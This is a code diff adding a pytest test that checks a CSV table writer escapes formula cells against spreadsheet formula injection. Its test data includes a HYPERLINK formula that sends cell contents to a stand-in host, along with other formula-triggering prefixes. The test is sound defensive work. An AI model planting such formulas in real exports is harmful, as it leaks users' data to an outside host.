@@ -135,3 +135,25 @@ def test_two_notebooks_with_the_same_bytes_have_their_own_pages(package_copy, tm
     build_report(out, **options)
     assert (out / "05-my-variant.html").is_file() and (out / "01-foreign-fighters.html").is_file()
     assert build_report(out, **options).up_to_date
+
+
+# -- 5. no formula cells in a CSV written for people ---------------------------------------------------------------
+@pytest.mark.parametrize("field, written", [
+    ('=HYPERLINK("http://x.example/?"&A1,"click")', '\'=HYPERLINK("http://x.example/?"&A1,"click")'),
+    ("+1+1", "'+1+1"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\tcmd", "'\tcmd"), ("\r=1", "'\n=1"),
+    ("two\rlines", "two\nlines"),
+    ("more than 15,000", "more than 15,000"), ("a=b", "a=b"), ("", ""),
+])
+def test_a_published_table_neutralises_formula_cells(tmp_path, field, written):
+    import csv
+
+    import pandas as pd
+
+    from kzfigures.charts.outputs import Outputs
+
+    outputs = Outputs()
+    outputs.table(pd.DataFrame({"measure": [field], "=head": ["x"], "count": [-4]}), "t")
+    outputs.save(tmp_path)
+    with (tmp_path / "t.csv").open(encoding="utf-8", newline="") as handle:
+        header, row = list(csv.reader(handle))
+    assert header == ["measure", "'=head", "count"] and row == [written, "x", "-4"]
